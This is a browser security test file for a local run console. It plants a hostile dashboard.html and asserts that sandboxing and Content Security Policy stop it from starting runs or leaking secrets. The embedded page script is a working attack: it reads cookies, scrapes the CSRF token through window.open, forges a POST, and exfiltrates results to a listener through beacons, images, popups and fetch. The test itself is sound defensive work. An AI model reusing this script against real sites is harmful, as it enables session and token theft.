/**
 * A hostile dashboard.html planted in the console's output folder (as an unpacked artifact would
 * bring it), opened from the console's own run list in real Chromium and clicked: it opens the
 * console with window.open('/'), tries to start a run through that window and through its own
 * fetch, to read the login cookie and the page's CSRF token, and sends whatever it got to a
 * listener on another local port. No run starts and nothing secret arrives; the console's own
 * flows (log in, start a run, open its dashboard) still work with the token set.
 */
import { mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type IncomingMessage, type Server } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { type BrowserContext, chromium, type Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { CHROMIUM, skipBrowser } from "../../support/browser.js";
import { type Served, serve } from "../../support/console.js";

const TOKEN = "hostile-test-token-93ad0c";
const PLANTED = "planted__2026-01-01__00-00-00";

let served: Served;
let listener: Server;
let listenerUrl = "";
const received: { url: string; cookie: string; body: string }[] = [];
let context: BrowserContext;
let page: Page;
let profile: string;
const consoleErrors: string[] = [];

/**
 * The attack, as the issue found it working: one click, window.open('/'), then that window's fetch;
 * then every way out it has to send what it got to the listener. It writes its findings into its
 * own page for the test to read, since none of those ways may work.
 */
function hostilePage(leak: string): string {
  return `<!doctype html><html><head><meta charset="utf-8"><title>quickstart dashboard</title></head><body>
<button id="go" type="button">show the charts</button><pre id="got">idle</pre>
<script>
var LEAK = ${JSON.stringify(leak)};
var got = { href: location.href, origin: self.origin };
function note(k, f) { try { got[k] = String(f()); } catch (e) { got[k] = "threw " + e.name; } }
function start(f, headers) {
  return f("/api/start", { method: "POST", headers: headers, body: JSON.stringify({ file: "examples/quickstart.yaml" }) })
    .then(function (r) { return r.status; }, function (e) { return "threw " + e.name; });
}
function leakAll() {
  var q = "?" + encodeURIComponent(JSON.stringify(got));
  note("beacon", function () { return navigator.sendBeacon(LEAK, JSON.stringify(got)); });
  note("image", function () { new Image().src = LEAK + q; return "sent"; });
  note("popup", function () { return window.open(LEAK + q); });
  note("top", function () { top.location.href = LEAK + q; return "navigated"; });
  document.getElementById("got").textContent = JSON.stringify(got);
  fetch(LEAK + q, { method: "POST", mode: "no-cors", body: JSON.stringify(got) }).catch(function () {});
  setTimeout(function () { location.href = LEAK + q; }, 300);
}
document.getElementById("go").onclick = function () {
  note("cookie", function () { return document.cookie; });
  note("storage", function () { return localStorage.length; });
  var w = null;
  note("open", function () { w = window.open("/"); return w; });
  setTimeout(function () {
    note("w.cookie", function () { return w.document.cookie; });
    note("w.csrf", function () { return w.document.querySelector('meta[name="csrf-token"]').getAttribute("content"); });
    note("w.html", function () { return w.document.documentElement.outerHTML.slice(0, 4000); });
    note("parent.html", function () { return parent.document.documentElement.outerHTML.slice(0, 4000); });
    var tries = [start(fetch, { "content-type": "application/json" })];
    try {
      tries.push(start(w.fetch.bind(w), { "content-type": "application/json", "x-console-csrf": got["w.csrf"] }));
    } catch (e) { got["w.fetch"] = "threw " + e.name; }
    Promise.all(tries).then(function (rs) { got.starts = rs.join(","); leakAll(); });
  }, 1500);
};
</script></body></html>`;
}

function record(req: IncomingMessage, res: import("node:http").ServerResponse): void {
  let body = "";
  req.on("data", (c) => {
    body += c;
  });
  req.on("end", () => {
    received.push({ url: req.url ?? "", cookie: req.headers.cookie ?? "", body });
    res.writeHead(200, { "content-type": "text/plain" });
    res.end("ok");
  });
}

beforeAll(async () => {
  listener = createServer(record);
  await new Promise<void>((ok) => listener.listen(0, "127.0.0.1", () => ok()));
  listenerUrl = `http://127.0.0.1:${(listener.address() as { port: number }).port}/leak`;
  served = await serve(["--token", TOKEN]);
  const planted = join(served.cwd, "runs", PLANTED);
  mkdirSync(planted, { recursive: true });
  writeFileSync(join(planted, "events.jsonl"), "");
  writeFileSync(join(planted, "dashboard.html"), hostilePage(listenerUrl));
  writeFileSync(join(planted, "notes.html"), hostilePage(listenerUrl));
  profile = mkdtempSync(join(tmpdir(), "hostile-profile-"));
  context = await chromium.launchPersistentContext(profile, {
    executablePath: CHROMIUM,
    headless: true,
    args: ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"],
  });
  context.on("page", (p) => {
    p.on("pageerror", (e) => consoleErrors.push(`${p.url()}: ${String(e)}`));
  });
  page = context.pages()[0] ?? (await context.newPage());
}, 60_000);

afterAll(async () => {
  await context?.close();
  if (profile) rmSync(profile, { recursive: true, force: true });
  await served?.stop();
  await new Promise((ok) => listener?.close(ok));
}, 60_000);

const runFolders = () => readdirSync(join(served.cwd, "runs")).filter((n) => !n.startsWith("."));

describe.skipIf(skipBrowser)("a hostile dashboard.html in the console's output folder", () => {
  let csrf = "";
  let session = "";

  it("logs in once with ?token= and lands on a clean URL, the token kept in an HttpOnly, SameSite=Strict cookie", async () => {
    await page.goto(served.login);
    expect(page.url()).toBe(served.url);
    const cookies = await context.cookies(served.url);
    expect(cookies).toHaveLength(1);
    expect(cookies[0]).toMatchObject({ httpOnly: true, sameSite: "Strict", path: "/" });
    expect(cookies[0].value).not.toContain(TOKEN);
    session = cookies[0].value;
    csrf = (await page.getAttribute('meta[name="csrf-token"]', "content")) ?? "";
    expect(csrf).toMatch(/^[A-Za-z0-9_-]{43}$/);
    const link = page.locator(`tr[data-id="${PLANTED}"] a.dash`);
    await link.waitFor();
    expect(await link.getAttribute("href")).toBe(`/runs/${PLANTED}/dashboard.html`);
  });

  it("opened from the run list and clicked, starts no run and sends nothing at all to another port", async () => {
    const [hostile] = await Promise.all([
      context.waitForEvent("page"),
      page.locator(`tr[data-id="${PLANTED}"] a.dash`).click(),
    ]);
    const messages: string[] = [];
    hostile.on("console", (m) => messages.push(m.text()));
    await hostile.waitForLoadState("load");
    const frame = hostile.frameLocator("iframe");
    await frame.locator("#go").click();
    await expect.poll(() => frame.locator("#got").textContent(), { timeout: 20_000 }).toMatch(/"starts"/);
    const got = JSON.parse((await frame.locator("#got").textContent()) ?? "{}");
    // Every step of the attack ran, and each found nothing: an opaque origin with no popup.
    expect(got).toMatchObject({ origin: "null", open: "null", popup: "null" });
    for (const k of ["cookie", "storage", "parent.html", "top"])
      expect(got[k], k).toMatch(/^threw SecurityError/);
    for (const k of ["w.cookie", "w.csrf", "w.fetch"]) expect(got[k], k).toMatch(/^threw TypeError/);
    expect(String(got.starts)).toMatch(/^threw TypeError$/);
    // The self-navigation it tried last is refused: the frame may go to the console's origin only.
    await expect
      .poll(() => messages.join("\n"), { timeout: 20_000 })
      .toContain(
        `Framing '${new URL(listenerUrl).origin}/' violates the following Content Security Policy directive: "frame-src 'self'"`,
      );
    expect(received).toEqual([]);
    expect(JSON.stringify(got)).not.toContain(csrf);
    expect(JSON.stringify(got)).not.toContain(session);
    expect(runFolders()).toEqual([PLANTED]);
    await hostile.close();
  }, 60_000);

  it("serves the run's other .html not at all, and its dashboard.html sandboxed and only into a frame", async () => {
    expect((await page.request.get(`${served.url}runs/${PLANTED}/notes.html`)).status()).toBe(404);
    expect((await page.request.get(`${served.url}runs/${PLANTED}/raw/notes.html`)).status()).toBe(404);
    const raw = await page.request.get(`${served.url}runs/${PLANTED}/raw/dashboard.html`);
    expect(raw.headers()["content-security-policy"]).toMatch(/^sandbox allow-scripts;/);
    expect(raw.headers()["content-security-policy"]).not.toContain("allow-same-origin");
    expect(raw.headers()["x-content-type-options"]).toBe("nosniff");
    // Opened as a page of its own (Sec-Fetch-Dest: document), the file is refused.
    const direct = await page.goto(`${served.url}runs/${PLANTED}/raw/dashboard.html`);
    expect(direct?.status()).toBe(403);
    expect(received).toEqual([]);
  });

  it("still starts a run from the console's own page, and opens its real dashboard with its charts", async () => {
    await page.goto(`${served.url}#new`);
    await page
      .locator("#scenario-file option", { hasText: "examples/quickstart.yaml" })
      .waitFor({ state: "attached" });
    await page.selectOption("#scenario-file", "examples/quickstart.yaml");
    await page.fill("#scenario-set", "pairs[0].sessions=4");
    await page.click("#start-file");
    await page.waitForURL(/#run\//, { timeout: 60_000 });
    await expect.poll(() => page.textContent("#t-verdict"), { timeout: 60_000 }).toMatch(/^(pass|warn)$/);
    const [dash] = await Promise.all([
      context.waitForEvent("page"),
      page.click("#run-links a[target=_blank]"),
    ]);
    await dash.waitForLoadState("load");
    expect(await dash.title()).toContain("quickstart");
    // Sandboxed, the self-contained dashboard still draws: its script ran, in an opaque origin.
    const frame = dash.frameLocator("iframe");
    await expect.poll(() => frame.locator("svg.plot").count()).toBeGreaterThan(0);
    expect(await frame.locator("#verdict").textContent()).toMatch(/pass|warn/i);
    const inner = dash.frames().find((f) => f !== dash.mainFrame());
    expect(await inner?.evaluate("self.origin")).toBe("null");
    await dash.close();
    expect(runFolders()).toHaveLength(2);
    expect(consoleErrors).toEqual([]);
  }, 120_000);
});
